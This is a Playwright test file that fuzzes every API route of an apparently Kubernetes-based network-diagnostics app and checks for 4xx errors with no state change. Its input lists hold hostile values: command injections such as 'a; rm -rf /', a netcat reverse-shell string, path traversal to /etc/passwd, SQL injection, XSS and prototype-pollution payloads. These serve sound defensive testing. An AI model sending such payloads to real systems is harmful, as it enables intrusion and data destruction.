import fs from "node:fs";
import path from "node:path";
import { expect, test } from "@playwright/test";
import { bearer, snapshot } from "./helpers";

test.skip(!process.env.LAB_KUBECONFIG, "needs the lab cluster (npm test brings it up)");

// Bad values of every kind: wrong types, sizes, unicode, shell metacharacters, path traversal.
const STRINGS = [
  "$(reboot)",
  "`id`",
  "a; rm -rf /",
  "a|nc -e sh 10.0.0.1 4444",
  "x\ny",
  "\u0000",
  "../../etc/passwd",
  "..\\..\\windows",
  "ünïcødé-☃-😀",
  "\u202e\u0000",
  "%2e%2e%2f",
  "a".repeat(5000),
  "-rf",
  "--help",
  "' OR 1=1 --",
  "<script>alert(1)</script>",
  "",
];
const VALUES: unknown[] = [...STRINGS, 42, -1, 1e308, true, null, [], ["a"], {}, { $ne: 1 }];
const SEGMENTS = [
  "..%2F..%2Fetc%2Fpasswd",
  "%2e%2e",
  "%00",
  "$(reboot)",
  "%E2%98%83",
  "a".repeat(300),
  "UPPER",
  "-x",
];

/**
 * How a field is fuzzed: "strict" fields get every bad value; "free" fields take any text by design
 * (a search, a title), so only wrong types and sizes are bad; an array lists values that are valid
 * there and so are not sent alone.
 */
type FieldKind = "strict" | "free" | unknown[];
type Fuzz = {
  method: string;
  path: string;
  query?: Record<string, "strict" | "free">;
  body?: Record<string, FieldKind>;
  segments?: boolean;
  noInput?: string;
};
const FREE_BAD: unknown[] = ["a".repeat(12_000), 42, true, null, [], {}, ["a"]];
const badValues = (kind: FieldKind): unknown[] =>
  kind === "strict"
    ? VALUES
    : kind === "free"
      ? FREE_BAD
      : VALUES.filter((v) => !kind.some((ok) => JSON.stringify(ok) === JSON.stringify(v)));

/**
 * Every route and method, with the inputs it takes. A route added without an entry here fails
 * the coverage test below.
 */
const ROUTES: Record<string, Fuzz[]> = {
  "[[...path]]": [
    { method: "GET", path: "/api/no-such/:id", segments: true },
    { method: "POST", path: "/api/no/such/route", body: {} },
    {
      method: "PUT",
      path: "/api/reports-x",
      noInput: "every path, method and input is unknown here",
    },
    { method: "PATCH", path: "/api/x", noInput: "every path, method and input is unknown here" },
    { method: "DELETE", path: "/api/x/y", noInput: "every path, method and input is unknown here" },
  ],
  analyze: [{ method: "POST", path: "/api/analyze", body: { inputs: "strict" } }],
  audit: [
    {
      method: "GET",
      path: "/api/audit",
      query: { limit: "strict", before: "strict", actor: "free", action: "strict" },
    },
  ],
  "auth/login": [
    { method: "POST", path: "/api/auth/login", body: { token: "strict", name: "strict" } },
  ],
  "auth/logout": [
    { method: "POST", path: "/api/auth/logout", noInput: "signing out takes no input" },
  ],
  "auth/me": [{ method: "GET", path: "/api/auth/me", noInput: "who am I takes no input" }],
  "captures/[id]": [{ method: "GET", path: "/api/captures/:id", segments: true }],
  cluster: [{ method: "GET", path: "/api/cluster", query: { context: "strict" } }],
  contexts: [
    { method: "GET", path: "/api/contexts", noInput: "the list of contexts takes no input" },
  ],
  "debug-pods": [
    { method: "GET", path: "/api/debug-pods", query: { context: "strict" } },
    {
      method: "POST",
      path: "/api/debug-pods",
      body: {
        mode: "strict",
        node: "strict",
        target: "strict",
        ttlSeconds: "strict",
        context: "strict",
      },
    },
  ],
  "debug-pods/[namespace]/[pod]/[container]": [
    {
      method: "GET",
      path: "/api/debug-pods/:ns/:pod/:c",
      segments: true,
      query: { context: "strict" },
    },
    {
      method: "DELETE",
      path: "/api/debug-pods/:ns/:pod/:c",
      segments: true,
      query: { context: "strict" },
    },
  ],
  "debug-pods/[namespace]/[pod]/[container]/diagnostics": [
    {
      method: "POST",
      path: "/api/debug-pods/:ns/:pod/:c/diagnostics",
      segments: true,
      body: { diagnostic: "strict", params: "strict", context: "strict" },
    },
  ],
  health: [{ method: "GET", path: "/api/health", noInput: "liveness takes no input" }],
  "jobs/[id]": [
    { method: "GET", path: "/api/jobs/:id", segments: true },
    { method: "DELETE", path: "/api/jobs/:id", segments: true },
  ],
  latency: [
    {
      method: "POST",
      path: "/api/latency",
      body: { nodes: [[], ["a"]], externalTargets: [[], ["a"]], context: "strict" },
    },
  ],
  "latency/history": [
    { method: "GET", path: "/api/latency/history", query: { context: "strict" } },
  ],
  "latency/latest": [{ method: "GET", path: "/api/latency/latest", query: { context: "strict" } }],
  metrics: [{ method: "GET", path: "/api/metrics", noInput: "a Prometheus scrape takes no input" }],
  mtu: [{ method: "POST", path: "/api/mtu", body: { context: "strict" } }],
  "mtu/latest": [{ method: "GET", path: "/api/mtu/latest", query: { context: "strict" } }],
  nodes: [{ method: "GET", path: "/api/nodes", query: { context: "strict" } }],
  reports: [
    { method: "GET", path: "/api/reports", query: { q: "free" } },
    {
      method: "POST",
      path: "/api/reports",
      body: {
        title: "free",
        note: "free",
        context: "strict",
        includeMtu: "strict",
        includeLatency: "strict",
        diagnostics: "strict",
      },
    },
  ],
  "reports/[id]": [
    { method: "GET", path: "/api/reports/:id", segments: true },
    { method: "DELETE", path: "/api/reports/:id", segments: true },
  ],
  "reports/[id]/export": [
    { method: "GET", path: "/api/reports/:id/export", segments: true, query: { format: "strict" } },
  ],
  throughput: [
    {
      method: "POST",
      path: "/api/throughput",
      body: {
        from: "strict",
        to: "strict",
        network: "strict",
        seconds: "strict",
        context: "strict",
      },
    },
  ],
  "throughput/latest": [
    { method: "GET", path: "/api/throughput/latest", query: { context: "strict" } },
  ],
  topology: [
    {
      method: "GET",
      path: "/api/topology",
      query: {
        context: "strict",
        zone: "free",
        node: "strict",
        namespace: "strict",
        label: "strict",
        expand: "strict",
      },
    },
  ],
};

function routeFiles(dir = "app/api", prefix = ""): Record<string, string[]> {
  const out: Record<string, string[]> = {};
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const rel = prefix ? `${prefix}/${e.name}` : e.name;
    if (e.isDirectory()) Object.assign(out, routeFiles(path.join(dir, e.name), rel));
    else if (e.name === "route.ts")
      out[prefix] = [
        ...fs
          .readFileSync(path.join(dir, e.name), "utf8")
          .matchAll(/(?:export const|\bas) (GET|POST|PUT|PATCH|DELETE)\b/g),
      ]
        .map((m) => m[1]!)
        .sort();
  }
  return out;
}

test("the fuzz table covers every API route and method", () => {
  const files = routeFiles();
  expect(Object.keys(ROUTES).sort()).toEqual(Object.keys(files).sort());
  for (const [route, methods] of Object.entries(files))
    expect(ROUTES[route]!.map((r) => r.method).sort(), route).toEqual(methods);
});

/** Fills :params with harmless valid-looking values, or one bad segment. */
const fill = (p: string, bad?: string) =>
  p.replace(/:[a-z]+/g, (m, i: number) =>
    bad !== undefined && i === p.indexOf(":")
      ? bad
      : (
          {
            ":ns": "underlay-system",
            ":pod": "no-such-pod",
            ":c": "debug",
            ":id": "0".repeat(32),
          } as Record<string, string>
        )[m]!,
  );

test("every route answers bad input with a 4xx and a sentence, and nothing changes", async ({
  request,
}) => {
  test.setTimeout(600_000);
  const before = await snapshot(request);
  const tried: string[] = [];
  const check = async (method: string, url: string, data?: string) => {
    const res = await request.fetch(url, {
      method,
      headers: {
        ...bearer("admin"),
        ...(data !== undefined ? { "content-type": "application/json" } : {}),
      },
      data,
      maxRedirects: 5,
    });
    const status = res.status();
    const what = `${method} ${url.slice(0, 160)} ${String(data).slice(0, 120)} → ${status}`;
    tried.push(what);
    expect.soft(status, what).toBeGreaterThanOrEqual(400);
    expect.soft(status, what).toBeLessThan(500);
    const body = await res.json().catch(() => null);
    expect.soft(body?.error?.message, what).toMatch(/^[^\n]{10,600}$/);
    expect
      .soft(JSON.stringify(body), what)
      .not.toMatch(/\bat [\w.<>]+ \(|node_modules|ApiException|stack/);
  };
  for (const fuzzes of Object.values(ROUTES)) {
    for (const f of fuzzes) {
      if (f.noInput) continue;
      if (f.segments)
        for (const seg of SEGMENTS)
          await check(f.method, fill(f.path, seg), f.body ? "{}" : undefined);
      for (const [q, kind] of Object.entries(f.query ?? {})) {
        for (const v of kind === "strict" ? STRINGS.filter((x) => x !== "") : ["a".repeat(5000)])
          await check(f.method, `${fill(f.path)}?${q}=${encodeURIComponent(v)}`);
        await check(f.method, `${fill(f.path)}?${q}=a&unknown=1`);
      }
      if (f.query) await check(f.method, `${fill(f.path)}?no_such_parameter=1`);
      if (f.body) {
        const url = fill(f.path);
        for (const raw of [
          "not json",
          "{",
          "[]",
          '"a string"',
          "42",
          "null",
          '{"__proto__":{"admin":true}}',
          '{"constructor":{"prototype":{"admin":true}}}',
          JSON.stringify({ unknownKey: 1 }),
          `{"a":${"[".repeat(5000)}${"]".repeat(5000)}}`,
        ])
          await check(f.method, url, raw);
        await check(f.method, url, JSON.stringify({ x: "a".repeat(300 * 1024) }));
        for (const [field, kind] of Object.entries(f.body))
          for (const v of badValues(kind))
            await check(f.method, url, JSON.stringify({ [field]: v }));
      }
    }
  }
  expect(tried.length).toBeGreaterThan(800);
  expect(await snapshot(request)).toEqual(before);
});

test("routes without input answer and change nothing", async ({ request }) => {
  const before = await snapshot(request);
  for (const f of Object.values(ROUTES)
    .flat()
    .filter((x) => x.noInput)) {
    const res = await request.fetch(`${f.path}?$(reboot)=../../etc/passwd`, {
      method: f.method,
      headers: bearer("admin"),
    });
    expect(res.status(), f.path).toBeLessThan(500);
  }
  expect(await snapshot(request)).toEqual(before);
});
